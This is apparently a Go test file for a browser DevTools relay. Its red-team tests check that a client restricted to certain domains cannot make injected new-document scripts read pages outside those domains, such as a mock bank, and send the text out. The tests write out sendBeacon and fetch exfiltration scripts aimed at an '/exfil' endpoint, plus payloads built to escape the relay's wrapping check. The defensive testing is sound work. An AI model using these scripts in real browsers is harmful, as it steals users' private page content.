package extcdp_test

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/livetab/livetab/livetabcdp"
)

// The relay wraps a held client's new-document scripts in a check of the
// document's origin (initscript.go); serveAt is in
// redteam_zzp_framecookies_test.go.

// TestRedTeamNewDocumentScriptFollowsTheTabOutside: a client held to
// 127.0.0.1 is on the person's tab at an allowed page and adds a script to
// run on every new document (Playwright's addInitScript). The person then
// goes to their bank (127.0.0.2) in that tab. The relay ends the client's
// session when the tab's commit reaches it; the script ran in the bank's
// page before that, read it, and sent it to the client's allowed server.
func TestRedTeamNewDocumentScriptFollowsTheTabOutside(t *testing.T) {
	srv, tok := endpoint(t)
	var mu sync.Mutex
	var got []string
	allowed := serveAt(t, "127.0.0.1", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/exfil" {
			b, _ := io.ReadAll(r.Body)
			mu.Lock()
			got = append(got, string(b))
			mu.Unlock()
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>allowed</title>allowed")
	})
	bank := serveAt(t, "127.0.0.2", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>bank</title>zzp-balance-secret")
	})
	person := userTab(t, allowed.URL+"/person")
	closeUserTab(t, person)
	time.Sleep(300 * time.Millisecond)

	a := dialRawTo(t, srv, tok)
	a.must("", livetabcdp.CommandSetPolicy, map[string]any{"domains": []string{"127.0.0.1"}})
	sid := a.attach(person)
	a.eval(sid, "1")
	a.must(sid, "Page.enable", map[string]any{})
	src := fmt.Sprintf(`addEventListener('DOMContentLoaded', () => { if (location.hostname === '127.0.0.2') navigator.sendBeacon('%s/exfil', location.href + ' ' + document.body.innerText) })`, allowed.URL)
	a.must(sid, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": src})
	a.must(sid, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": src, "worldName": "zzp"})

	// The person goes to their bank in the tab.
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	u, err := env.User(ctx)
	if err != nil {
		t.Fatal(err)
	}
	defer u.Close()
	// As the person types the URL: a browser-initiated navigation.
	res, err := u.Call(ctx, "Target.attachToTarget", map[string]any{"targetId": person, "flatten": true})
	if err != nil {
		t.Fatal(err)
	}
	usid := field(res, "sessionId")
	if _, err := u.CallSession(ctx, usid, "Page.navigate", map[string]any{"url": bank.URL + "/account", "transitionType": "typed"}); err != nil {
		t.Logf("person's navigation: %v", err)
	}
	u.Call(ctx, "Target.detachFromTarget", map[string]any{"sessionId": usid})
	time.Sleep(2500 * time.Millisecond)
	v, _ := u.Eval(ctx, person, "location.href")
	t.Logf("person's tab now at %s", v)
	mu.Lock()
	defer mu.Unlock()
	if len(got) > 0 {
		t.Errorf("the client's new-document script ran in the person's bank page outside its domains and sent it to the client: %q", got)
	}
}

// TestRedTeamNewDocumentScriptOnARedirectOutside: the same script on the
// client's own tab, whose allowed server redirects the client's navigation
// (or a link the page follows) to 127.0.0.2.
func TestRedTeamNewDocumentScriptOnARedirectOutside(t *testing.T) {
	srv, tok := endpoint(t)
	var mu sync.Mutex
	var got []string
	var bankURL string
	allowed := serveAt(t, "127.0.0.1", func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/exfil":
			b, _ := io.ReadAll(r.Body)
			mu.Lock()
			got = append(got, string(b))
			mu.Unlock()
			return
		case "/go":
			http.Redirect(w, r, bankURL+"/account", http.StatusFound)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<title>allowed</title><a id=l href="/go">go</a>`)
	})
	bank := serveAt(t, "127.0.0.2", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>bank</title>zzp-balance-secret")
	})
	bankURL = bank.URL
	a := dialRawTo(t, srv, tok)
	a.must("", livetabcdp.CommandSetPolicy, map[string]any{"domains": []string{"127.0.0.1"}})
	_, sid := a.open(allowed.URL + "/page")
	a.eval(sid, "1")
	src := fmt.Sprintf(`addEventListener('DOMContentLoaded', () => { if (location.hostname === '127.0.0.2') navigator.sendBeacon('%s/exfil', location.href + ' ' + document.body.innerText) })`, allowed.URL)
	a.must(sid, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": src})
	err := a.navigate(sid, allowed.URL+"/go")
	t.Logf("navigate to a redirect: %v", err)
	_, sid2 := a.open(allowed.URL + "/page2")
	a.eval(sid2, "1")
	a.must(sid2, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": strings.Replace(src, "location.href + ' '", "'(link) ' + location.href + ' '", 1)})
	a.eval(sid2, "document.getElementById('l').click(), 1")
	time.Sleep(2500 * time.Millisecond)
	mu.Lock()
	defer mu.Unlock()
	if len(got) > 0 {
		t.Errorf("the client's new-document script ran in a page outside its domains and sent it to the client: %q", got)
	}
}

// TestNewDocumentScriptOfAHeldClientRunsOnItsPages: the check around a
// held client's new-document script lets it run in the documents within
// its domains, new ones and (runImmediately) the one there now, in the
// page's world and in an isolated one.
func TestNewDocumentScriptOfAHeldClientRunsOnItsPages(t *testing.T) {
	srv, tok := endpoint(t)
	allowed := serveAt(t, "127.0.0.1", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, `<title>allowed</title><script>window.seen = window.x</script>allowed`)
	})
	a := dialRawTo(t, srv, tok)
	a.must("", livetabcdp.CommandSetPolicy, map[string]any{"domains": []string{"example.com", "127.0.0.0/8"}})
	_, sid := a.open(allowed.URL + "/page")
	a.eval(sid, "1")
	// Without Runtime on (the relay compiles the source in an isolated
	// world), and with it (Runtime.compileScript).
	a.must(sid, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "window.x = 1"})
	a.must(sid, "Runtime.enable", nil)
	a.must(sid, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "addEventListener('DOMContentLoaded', () => { document.body.dataset.iso = '1' })", "worldName": "iso"})
	a.must(sid, "Page.addScriptToEvaluateOnNewDocument", map[string]any{"source": "window.now = 2", "runImmediately": true})
	if v := a.eval(sid, "window.now"); v != "2" {
		t.Errorf("a script run at once on the allowed page: window.now = %s, want 2", v)
	}
	if err := a.navigate(sid, allowed.URL+"/page2"); err != nil {
		t.Fatal(err)
	}
	// Page.navigate answers before DOMContentLoaded, which the isolated
	// world's script waits for (under CI's load it had not come yet).
	if v := a.eval(sid, "(document.readyState === 'loading' ? new Promise((r) => addEventListener('DOMContentLoaded', r)) : Promise.resolve()).then(() => location.pathname + ' ' + window.seen + ' ' + window.x + ' ' + document.body.dataset.iso)"); v != "/page2 1 1 1" {
		t.Errorf("on the next allowed page: %q, want the scripts to have run before the page's (\"/page2 1 1 1\")", v)
	}
}

// TestRedTeamNewDocumentScriptThatClosesTheCheck: a source that closes the
// block of the check itself ("} steal(); if (0) {") would run everywhere;
// it does not compile on its own, and is refused.
func TestRedTeamNewDocumentScriptThatClosesTheCheck(t *testing.T) {
	srv, tok := endpoint(t)
	var mu sync.Mutex
	var got []string
	var bankURL string
	note := func(r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		mu.Lock()
		got = append(got, r.Host+r.URL.String()+" "+string(b))
		mu.Unlock()
	}
	allowed := serveAt(t, "127.0.0.1", func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/exfil":
			note(r)
			return
		case "/go":
			http.Redirect(w, r, bankURL+"/account", http.StatusFound)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>allowed</title>allowed")
	})
	bank := serveAt(t, "127.0.0.2", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/exfil" {
			note(r)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<title>bank</title>zzp-balance-secret")
	})
	bankURL = bank.URL
	a := dialRawTo(t, srv, tok)
	a.must("", livetabcdp.CommandSetPolicy, map[string]any{"domains": []string{"127.0.0.1"}})
	_, sid := a.open(allowed.URL + "/page")
	a.eval(sid, "1")
	steal := fmt.Sprintf(`fetch('%s/exfil?' + encodeURIComponent(location.href), {mode: 'no-cors'}); addEventListener('DOMContentLoaded', () => navigator.sendBeacon('%s/exfil', location.href + ' ' + document.body.innerText))`, bank.URL, allowed.URL)
	for _, runtime := range []bool{false, true} {
		if runtime {
			a.must(sid, "Runtime.enable", nil)
		}
		for _, src := range []string{
			"1",
			"} " + steal + "; if (0) {",
			"}\n" + steal + "\nif (0) {",
			"} " + steal + " //",
		} {
			for _, world := range []string{"", "w"} {
				p := map[string]any{"source": src}
				if world != "" {
					p["worldName"] = world
				}
				_, err := a.call(sid, "Page.addScriptToEvaluateOnNewDocument", p)
				switch {
				case src == "1":
					if err != nil {
						t.Errorf("a script that compiles (world %q, runtime %v): %v", world, runtime, err)
					}
				case err == nil || !strings.Contains(err.Error(), "does not compile on its own"):
					t.Errorf("a source that closes the check's block (world %q, runtime %v): %v, want it refused as not compiling on its own", world, runtime, err)
				}
			}
		}
	}
	if err := a.navigate(sid, allowed.URL+"/page2"); err != nil {
		t.Logf("navigate: %v", err)
	}
	a.eval(sid, "1")
	err := a.navigate(sid, allowed.URL+"/go")
	t.Logf("navigate to a redirect outside: %v", err)
	time.Sleep(2500 * time.Millisecond)
	mu.Lock()
	defer mu.Unlock()
	if len(got) > 0 {
		t.Errorf("the client's script broke out of the check and sent pages: %q", got)
	}
}
